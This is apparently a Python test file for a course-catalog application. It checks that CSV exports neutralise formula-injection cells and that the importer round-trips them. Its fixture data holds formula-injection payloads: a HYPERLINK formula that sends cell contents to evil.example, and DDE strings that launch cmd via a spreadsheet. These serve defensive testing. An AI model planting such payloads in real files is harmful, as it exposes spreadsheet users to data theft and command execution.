"""CSV formula injection: every CSV Lotse writes neutralises cells a spreadsheet would run
(``= + - @``, tab, CR first), and the importer undoes it, so export → import round-trips."""

from __future__ import annotations

import csv
import io
import json

from catalog import reading
from catalog.demo import write_csv
from catalog.exporting import export_offers
from catalog.tables import Offer
from lotse.db import transaction
from tests.catalog.test_importing import ADMIN, run, stored
from tests.factories import offer_data

FORMULA_STARTS = "=+-@\t\r"
NASTY = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Kurs")',
    "organization": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
    "street": "+1+2",
    "phone": "+49 641 123-45",
}

OWN = "'=Kurs' (so heißt er)"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS or _number(cell), repr(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_export_neutralises_and_import_restores(sessions):
    run(sessions, json.dumps([offer_data(external_id="ik-1", **NASTY)]), fmt="json")
    with transaction(sessions) as session:
        exported = "".join(export_offers(session, "csv", "vhs"))
    rows = cells(exported)
    assert_no_formula(rows)
    header, first = rows[0], rows[1]
    assert first[header.index("title")] == "'" + NASTY["title"]
    assert first[header.index("phone")] == "'" + NASTY["phone"]
    # what the importer reads back is what was exported
    back = reading.read_rows(exported, "csv")[0].data
    assert {k: back[k] for k in NASTY} == NASTY
    report = run(sessions, exported)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
    assert stored(sessions)["ik-1"].title == NASTY["title"]


def test_an_own_leading_apostrophe_survives(sessions):
    run(sessions, json.dumps([offer_data(external_id="q", title=OWN)]), fmt="json")
    with transaction(sessions) as session:
        exported = "".join(export_offers(session, "csv", "vhs"))
    assert run(sessions, exported).unchanged == 1
    with transaction(sessions) as session:
        assert session.query(Offer).one().title == OWN


def test_demo_csv_and_duplicates_csv_are_neutralised(tmp_path, runner):
    path = tmp_path / "demo.csv"
    write_csv([offer_data(external_id="d", **NASTY)], path)
    rows = cells(path.read_text(encoding="utf-8"))
    assert_no_formula(rows)
    back = reading.read_rows(path.read_bytes(), "csv")[0].data
    assert back["title"] == NASTY["title"]

    offers = [offer_data(external_id=x, title="=cmd|' /C calc'!A0 Integrationskurs") for x in "ab"]
    with transaction(runner.app.extensions["lotse"].sessions) as session:
        from catalog.store import create_offer

        for offer in offers:
            create_offer(session, ADMIN, "vhs", offer)
    result = runner.invoke(args=["catalog", "duplicates", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert len(rows) == 2 and rows[1][3].startswith("'=cmd")
    assert_no_formula(rows)
